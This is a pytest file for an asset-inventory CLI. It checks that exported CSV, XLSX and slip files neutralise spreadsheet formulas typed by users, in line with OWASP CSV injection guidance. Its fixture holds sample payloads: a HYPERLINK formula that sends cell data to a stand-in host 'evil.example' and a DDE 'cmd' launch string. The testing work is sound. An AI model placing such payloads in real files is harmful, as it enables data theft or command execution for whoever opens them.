"""Text typed by users cannot run as a spreadsheet formula in any file sobriety writes.

A device model, a site name, a lot's recipient or deed reference typed as
``=HYPERLINK(...)``, ``+cmd|...``, ``-2+3`` or ``@SUM(...)`` must come out as
text: the inventory export (CSV, XLSX), the flag and estimate CSVs, and the
lot slip CSV prefix it with an apostrophe (OWASP CSV injection). The PDF slip
prints it as it was typed.
"""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from sobriety.cli.main import app
from sobriety.storage import db

runner = CliRunner()
EVIL = {
    "model": '=HYPERLINK("http://evil.example/?"&A1,"Latitude")',
    "manufacturer": "+cmd|' /C calc'!A0",
    "site": "@SUM(A1:A9)",
    "recipient": "=1+1",
    "deed": "-2+3",
    "serial": "\t=2+2",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _ok(*args: str):
    result = runner.invoke(app, list(args))
    assert result.exit_code == 0, result.output
    return result


def _cells_are_safe(cells: list[str], where: str) -> None:
    for cell in cells:
        assert not (isinstance(cell, str) and cell.startswith(TRIGGERS) and cell != "-"), (
            where,
            cell,
        )


@pytest.fixture
def evil_db(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'evil.db'}"
    data = tmp_path / "evil.csv"
    with data.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(
            [
                "asset_tag",
                "category",
                "manufacturer",
                "model",
                "serial",
                "site",
                "acquisition_date",
                "status",
                "sensitive_data",
            ]
        )
        w.writerow(
            [
                "EVIL-1",
                "laptop",
                EVIL["manufacturer"],
                EVIL["model"],
                EVIL["serial"],
                EVIL["site"],
                "2016-01-04",
                "retired",
                "no",
            ]
        )
    _ok("--db", url, "import", str(data))
    return url


def test_the_inventory_export_neutralises_formulas(evil_db: str, tmp_path: Path) -> None:
    out_csv, out_xlsx = tmp_path / "out.csv", tmp_path / "out.xlsx"
    _ok("--db", evil_db, "export", str(out_csv))
    _ok("--db", evil_db, "export", str(out_xlsx))
    rows = list(csv.reader(out_csv.open(encoding="utf-8-sig")))
    _cells_are_safe([c for r in rows for c in r], "export csv")
    assert "'" + EVIL["model"] in rows[1]
    sheet = load_workbook(out_xlsx).active
    values = [c for r in sheet.iter_rows(values_only=True) for c in r if c is not None]
    _cells_are_safe(values, "export xlsx")
    assert "'" + EVIL["model"] in values


def test_the_flag_and_estimate_csvs_neutralise_formulas(evil_db: str, tmp_path: Path) -> None:
    flags = tmp_path / "flags.csv"
    _ok("--db", evil_db, "flag", "--format", "csv", "--output", str(flags))
    rows = list(csv.reader(flags.open(encoding="utf-8")))
    _cells_are_safe([c for r in rows for c in r], "flag csv")
    assert "'" + EVIL["model"] in rows[1]
    out = _ok(
        "--db",
        evil_db,
        "estimate",
        "--year",
        str(dt.date.today().year - 1),
        "--by",
        "site",
        "--format",
        "csv",
    ).stdout
    cells = [c for r in csv.reader(out.splitlines()) for c in r]
    _cells_are_safe(cells, "estimate csv")
    assert any(c.startswith("'" + EVIL["site"]) for c in cells), cells


def test_the_slip_csv_neutralises_formulas_and_the_pdf_prints_them(
    evil_db: str, tmp_path: Path
) -> None:
    engine = db.make_engine(evil_db, create_folder=False)
    with engine.begin() as conn:
        device_id = conn.exec_driver_sql(
            "select id from device where asset_tag = 'EVIL-1'"
        ).scalar_one()
        conn.exec_driver_sql(
            "insert into erasure (device_id, method, level, tool, operator, date, verified, "
            "certificate_id) values (?, 'destruction', 'destroy', 'shredder', 'tech', "
            "'2026-01-05', 1, '=CERT()')",
            (device_id,),
        )
    engine.dispose()
    _ok(
        "--db",
        evil_db,
        "lot",
        "create",
        "--channel",
        "recycle",
        "--recipient",
        EVIL["recipient"],
        "--kind",
        "eco_organisme",
        "--code",
        "LOT-EVIL",
    )
    _ok("--db", evil_db, "lot", "add", "LOT-EVIL", "EVIL-1")
    _ok("--db", evil_db, "lot", "close", "LOT-EVIL", "--deed", EVIL["deed"])
    pdf, slip = tmp_path / "slip.pdf", tmp_path / "slip.csv"
    _ok("--db", evil_db, "lot", "slip", "LOT-EVIL", "--pdf", str(pdf), "--csv", str(slip))
    rows = list(csv.reader(slip.open(encoding="utf-8-sig")))
    cells = [c for r in rows for c in r]
    _cells_are_safe(cells, "slip csv")
    # the CSV has one row per device with the lot's fields (the deed is on the PDF)
    for text in (EVIL["recipient"], "=CERT()"):
        assert "'" + text in cells, (text, cells)
    import pypdfium2 as pdfium

    doc = pdfium.PdfDocument(str(pdf))
    try:
        printed = "\n".join(doc[i].get_textpage().get_text_range() for i in range(len(doc)))
    finally:
        doc.close()
    assert EVIL["recipient"] in printed and EVIL["deed"] in printed
